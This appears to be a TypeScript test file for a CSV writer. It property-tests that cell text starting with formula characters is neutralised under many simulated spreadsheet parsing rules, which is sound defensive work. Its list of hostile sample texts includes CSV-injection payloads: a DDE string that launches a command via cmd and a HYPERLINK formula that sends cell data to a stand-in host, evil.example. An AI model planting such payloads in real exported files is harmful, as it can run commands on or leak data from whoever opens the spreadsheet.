import { array, assert, constantFrom, oneof, property, string } from 'fast-check'
import { describe, expect, test } from 'vitest'
import { writeCsv } from './write-csv.ts'

test.each([
  ['=1+1', `"'=1+1"`],
  ['  =1+1', `"'  =1+1"`],
  ['＝1+1', `"'＝1+1"`],
  ['＠SUM(1)', `"'＠SUM(1)"`],
  ['-2', `"'-2"`],
  ['\tTea', `"'\tTea"`],
  // Divided there, the second half would be a formula.
  ['a;=1+1', `"a;'=1+1"`],
  ['a; =1+1', `"a;' =1+1"`],
  ['a;"=1+1', `"a;'""=1+1"`],
  ['a\t=1+1', `"a\t'=1+1"`],
  ['a\n=1+1', `"a\n'=1+1"`],
  ['\u0000=1+1', `"'\u0000=1+1"`],
  ['tea; coffee', '"tea; coffee"'],
  ['say "tea"', '"say ""tea"""'],
  ['tea, hot', '"tea, hot"'],
  ['Tea = good', 'Tea = good'],
])('the cell %j is written as %s', (text, cell) => {
  expect(writeCsv([['x', text]])).toBe(`x,${cell}\r\n`)
})

/** Texts that were a formula in some spreadsheet before they were written with care. */
const hostile = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  `=cmd|'/C calc'!A0`,
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  '  =1+1',
  '\u0000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '－1',
  'a;=1+1',
  'a;"=1+1',
  `Pay;"=1+cmd|'/C calc'!A0;`,
  'a;  "=1+1',
  'a;\u0000=1+1',
  'a\t=1+1',
  'a\t"=1+1',
  'a\n=1+1',
  'a\r\n=1+1',
  'a\r=1+1',
  'a\n"=1+1',
  ';=1+1',
  '\r=1+1',
  '";=1+1',
  '";"=1+1',
  '"\n=1+1',
  'a;\n;=1+1',
  'a;"";"=1+1',
]

interface Reading {
  separators: string
  /** As LibreOffice does in front of a quotation mark. */
  skipsBlanks: boolean
  /** As LibreOffice does: another quotation mark is a part of the cell. */
  endsOnlyBeforeSeparators: boolean
  /** A line feed in quotes ends the row for readers that divide the file into lines first. */
  endsRowInQuotes: boolean
}

const readings: readonly Reading[] = [',', ';', '\t', ',;', ';\t', ',;\t'].flatMap((separators) =>
  [true, false].flatMap((skipsBlanks) =>
    [true, false].flatMap((endsOnlyBeforeSeparators) =>
      [true, false].map((endsRowInQuotes) => ({
        separators,
        skipsBlanks,
        endsOnlyBeforeSeparators,
        endsRowInQuotes,
      })),
    ),
  ),
)

/** The cells of a file as a spreadsheet reads them. */
function readCells(file: string, reading: Reading): string[] {
  // Excel and LibreOffice do so as well.
  const text = file.replaceAll('\u0000', '')
  const cells: string[] = []
  let at = 0
  while (at < text.length) {
    const quoted = (reading.skipsBlanks ? / *"/y : /"/y).exec(text.slice(at))?.[0] ?? ''
    const inside = quoted === '' ? '' : readQuoted(text.slice(at + quoted.length), reading)
    const end = at + quoted.length + inside.length
    const rest = readRest(text.slice(end), reading)
    cells.push(inside.replace(/"$/, '').replaceAll('""', '"') + rest)
    at = end + rest.length + 1
  }
  return cells
}

/** What follows a quotation mark, with the one that ends it. */
function readQuoted(text: string, { separators, ...reading }: Reading): string {
  const ending = reading.endsOnlyBeforeSeparators
    ? new RegExp(`"(?= *(?:[${separators}\r\n]|$))`, 'y')
    : /"/y
  let at = 0
  while (at < text.length && !(reading.endsRowInQuotes && text.charAt(at) === '\n')) {
    if (text.startsWith('""', at)) at += 2
    else {
      ending.lastIndex = at
      if (ending.test(text)) return text.slice(0, at + 1)
      at += 1
    }
  }
  return text.slice(0, at)
}

function readRest(text: string, { separators }: Reading): string {
  return new RegExp(`^[^${separators}\r\n]*`).exec(text)?.[0] ?? ''
}

/** Spreadsheets may skip what is not visible in front of a formula. */
const isFormula = (cell: string) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠−﹢﹣﹦﹫]/u.test(cell)

const listFormulas = (file: string) =>
  readings.flatMap((reading) => readCells(file, reading).filter(isFormula))

describe('no cell is a formula, whatever the separator and the reader', () => {
  test.each(hostile)('%j', (text) => {
    const unguarded = `x,"${text.replaceAll('"', '""')}",y\r\n`
    expect(listFormulas(unguarded)).not.toEqual([])
    for (const row of [[text], ['x', text], [text, text], ['x', text, 'y'], ['a;', text, 'b;"']]) {
      expect(listFormulas(writeCsv([row, row]))).toEqual([])
    }
  })

  test('random rows of such parts', () => {
    const part = oneof(
      constantFrom(...hostile),
      constantFrom('=', '-', '@', '＝', ',', ';', '\t', '\r', '\n', '"', "'", ' ', '\u0000', 'a'),
      string({ unit: 'grapheme', maxLength: 4 }),
    )
    const text = array(part, { maxLength: 8 }).map((parts) => parts.join(''))
    assert(
      property(array(array(text, { minLength: 1, maxLength: 4 }), { maxLength: 3 }), (rows) => {
        expect(listFormulas(writeCsv(rows))).toEqual([])
      }),
      { numRuns: 600 },
    )
  })
})

test('a reader of RFC 4180 gets every text back, apart from the apostrophes', () => {
  const text = string({ unit: 'grapheme', minLength: 1, maxLength: 12 })
  const strict = {
    separators: ',',
    skipsBlanks: false,
    endsOnlyBeforeSeparators: false,
    endsRowInQuotes: false,
  }
  assert(
    property(array(text, { minLength: 1, maxLength: 5 }), (row) => {
      const cells = readCells(writeCsv([row]).replace(/\r\n$/, ''), strict)
      expect(cells.map(withoutMarks)).toEqual(row.map(withoutMarks))
    }),
  )
})

function withoutMarks(cell: string): string {
  return cell.replaceAll("'", '').replaceAll('\u0000', '')
}
